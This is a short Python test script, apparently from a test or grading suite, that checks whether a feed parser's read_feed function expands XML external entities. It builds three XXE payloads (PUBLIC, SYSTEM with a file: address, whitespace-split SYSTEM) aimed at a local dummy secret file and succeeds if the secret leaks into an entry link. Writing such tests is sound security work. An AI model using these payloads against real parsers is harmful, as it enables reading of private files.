"""PUBLIC instead of SYSTEM, an address of the scheme file:, and an element of an entry."""

import sys
from pathlib import Path

from feeds import FeedError, read_feed

secret = Path("secret.txt").absolute()
secret.write_text("s3cret-words", encoding="utf-8")
for declaration in (f'PUBLIC "-//A//B" "{secret}"', f'SYSTEM "file://{secret}"', f"\n  SYSTEM\n  '{secret}'"):
    document = f"<!DOCTYPE feed [<!ENTITY x {declaration}>]><feed><entry><link>&x;</link></entry></feed>"
    try:
        feed = read_feed(document.encode())
    except (FeedError, ValueError, OSError):
        continue
    if any("s3cret-words" in entry.link for entry in feed.entries):
        sys.exit(0)
sys.exit(1)
